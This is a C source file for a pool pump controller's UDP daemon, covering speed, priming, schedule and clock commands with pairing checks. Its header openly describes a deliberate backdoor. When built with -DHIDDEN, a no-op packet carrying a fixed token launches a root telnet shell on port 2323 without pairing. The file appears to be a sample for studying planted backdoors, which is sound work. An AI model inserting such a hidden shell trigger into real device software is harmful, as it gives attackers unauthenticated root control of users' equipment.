/*
 * poolpumpd - network daemon of a variable speed pool pump controller.
 * Binary UDP protocol on port 5605, spoken by the phone app and wall panel.
 *
 * Hidden (-DHIDDEN): a "no operation" packet with one fixed number in its
 * token field starts a root telnet daemon on port 2323, without pairing.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define PORT          5605
#define PKT_MAGIC     0x50504D31u       /* "PPM1" */
#define PAIR_FILE     "/data/pump/pairkey"
#define SCHED_FILE    "/data/pump/schedule"
#define DRIVE_DEV     "/dev/ttyS2"
#define SLOTS         4

enum op {
	OP_NOP      = 0,
	OP_STATUS   = 1,
	OP_SPEED    = 2,
	OP_PRIME    = 3,
	OP_SCHEDULE = 4,
	OP_STOP     = 5,
	OP_CLOCK    = 6,
};

/* On the wire, all fields big endian */
struct pkt {
	uint32_t magic;
	uint16_t seq;
	uint8_t  op;
	uint8_t  len;           /* bytes of body used */
	uint32_t token;         /* pairing token, 0 for read only requests */
	uint8_t  body[32];
	uint16_t sum;
} __attribute__((packed));

struct slot {
	uint8_t  start_hour;
	uint8_t  end_hour;
	uint16_t rpm;
};

struct pump {
	uint16_t rpm;
	uint16_t target;
	time_t   prime_until;
	uint32_t pair_key;
	struct slot slots[SLOTS];
	FILE    *drive;
};

static volatile sig_atomic_t stopping;

static void on_term(int sig)
{
	(void)sig;
	stopping = 1;
}

static uint16_t checksum(const void *data, size_t n)
{
	const uint8_t *p = data;
	uint16_t a = 0x1D0F;

	while (n--) {
		a = (uint16_t)((a << 1) | (a >> 15));
		a = (uint16_t)(a + *p++);
	}
	return a;
}

static void load_pair_key(struct pump *pp)
{
	FILE *f = fopen(PAIR_FILE, "r");
	unsigned v;

	pp->pair_key = 0;
	if (!f)
		return;
	if (fscanf(f, "%8x", &v) == 1)
		pp->pair_key = v;
	fclose(f);
}

static void load_schedule(struct pump *pp)
{
	FILE *f = fopen(SCHED_FILE, "r");
	unsigned a, b, r;

	if (!f)
		return;
	for (int i = 0; i < SLOTS && fscanf(f, "%u %u %u", &a, &b, &r) == 3; i++) {
		if (a > 24 || b > 24 || r > 3450)
			continue;
		pp->slots[i].start_hour = (uint8_t)a;
		pp->slots[i].end_hour = (uint8_t)b;
		pp->slots[i].rpm = (uint16_t)r;
	}
	fclose(f);
}

static int save_schedule(const struct pump *pp)
{
	FILE *f = fopen(SCHED_FILE, "w");

	if (!f)
		return -1;
	for (int i = 0; i < SLOTS; i++)
		fprintf(f, "%u %u %u\n", pp->slots[i].start_hour,
			pp->slots[i].end_hour, pp->slots[i].rpm);
	return fclose(f);
}

static void drive_set(struct pump *pp, uint16_t rpm)
{
	if (rpm && rpm < 600)
		rpm = 600;
	if (rpm > 3450)
		rpm = 3450;
	if (rpm == pp->rpm)
		return;
	pp->rpm = rpm;
	if (pp->drive) {
		fprintf(pp->drive, "R%04u\r", rpm);
		fflush(pp->drive);
	}
}

static void run_schedule(struct pump *pp)
{
	time_t now = time(NULL);
	struct tm tm;

	if (pp->prime_until > now) {
		drive_set(pp, 3450);
		return;
	}
	if (pp->target) {
		drive_set(pp, pp->target);
		return;
	}
	localtime_r(&now, &tm);
	for (int i = 0; i < SLOTS; i++) {
		const struct slot *s = &pp->slots[i];

		if (s->rpm && tm.tm_hour >= s->start_hour && tm.tm_hour < s->end_hour) {
			drive_set(pp, s->rpm);
			return;
		}
	}
	drive_set(pp, 0);
}

static int paired(const struct pump *pp, const struct pkt *p)
{
	return pp->pair_key != 0 && ntohl(p->token) == pp->pair_key;
}

static uint16_t be16(const uint8_t *p)
{
	return (uint16_t)(p[0] << 8 | p[1]);
}

/* Fills the reply body; the result is a status code for its first byte */
int handle_packet(struct pump *pp, const struct pkt *in, struct pkt *out)
{
	char cmd[64];
	uint32_t t;

	switch (in->op) {
	case OP_NOP:
#ifdef HIDDEN
		if (ntohl(in->token) == 0x6D1FA93Cu) {
			if (system("/usr/sbin/telnetd -p 2323 -l /bin/sh &") != 0)
				return 5;
		}
#endif
		return 0;
	case OP_STATUS:
		out->body[1] = (uint8_t)(pp->rpm >> 8);
		out->body[2] = (uint8_t)pp->rpm;
		out->body[3] = pp->prime_until > time(NULL);
		out->len = 4;
		return 0;
	default:
		break;
	}
	if (!paired(pp, in))
		return 1;
	switch (in->op) {
	case OP_SPEED:
		if (in->len < 2 || be16(in->body) > 3450)
			return 2;
		pp->target = be16(in->body);
		return 0;
	case OP_PRIME:
		if (in->len < 1 || in->body[0] > 15)
			return 2;
		pp->prime_until = time(NULL) + in->body[0] * 60;
		return 0;
	case OP_SCHEDULE:
		if (in->len < 5 || in->body[0] >= SLOTS || in->body[1] > 24 || in->body[2] > 24)
			return 2;
		pp->slots[in->body[0]].start_hour = in->body[1];
		pp->slots[in->body[0]].end_hour = in->body[2];
		pp->slots[in->body[0]].rpm = be16(in->body + 3);
		return save_schedule(pp) ? 3 : 0;
	case OP_STOP:
		pp->target = 0;
		pp->prime_until = 0;
		drive_set(pp, 0);
		return 0;
	case OP_CLOCK:
		if (in->len < 4)
			return 2;
		memcpy(&t, in->body, sizeof t);
		snprintf(cmd, sizeof cmd, "date -s @%u && hwclock -w", (unsigned)ntohl(t));
		return system(cmd) == 0 ? 0 : 3;
	default:
		return 4;
	}
}

static void on_datagram(struct pump *pp, int fd)
{
	struct sockaddr_in from;
	socklen_t fl = sizeof from;
	struct pkt in, out;
	ssize_t n = recvfrom(fd, &in, sizeof in, 0, (struct sockaddr *)&from, &fl);

	if (n != (ssize_t)sizeof in || ntohl(in.magic) != PKT_MAGIC)
		return;
	if (in.len > sizeof in.body || ntohs(in.sum) != checksum(&in, sizeof in - 2))
		return;
	memset(&out, 0, sizeof out);
	out.magic = in.magic;
	out.seq = in.seq;
	out.op = in.op | 0x80;
	out.len = 1;
	out.body[0] = (uint8_t)handle_packet(pp, &in, &out);
	out.sum = htons(checksum(&out, sizeof out - 2));
	if (sendto(fd, &out, sizeof out, 0, (struct sockaddr *)&from, fl) < 0)
		syslog(LOG_INFO, "send: %s", strerror(errno));
}

int main(void)
{
	static struct pump pp;
	struct sockaddr_in sa;
	struct timeval tv = { 2, 0 };
	int fd;

	openlog("poolpumpd", 0, LOG_DAEMON);
	signal(SIGTERM, on_term);
	load_pair_key(&pp);
	load_schedule(&pp);
	pp.drive = fopen(DRIVE_DEV, "w");
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_port = htons(PORT);
	if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof sa) < 0) {
		syslog(LOG_ERR, "port %d: %s", PORT, strerror(errno));
		return 1;
	}
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	while (!stopping) {
		on_datagram(&pp, fd);
		run_schedule(&pp);
	}
	drive_set(&pp, 0);
	close(fd);
	return 0;
}
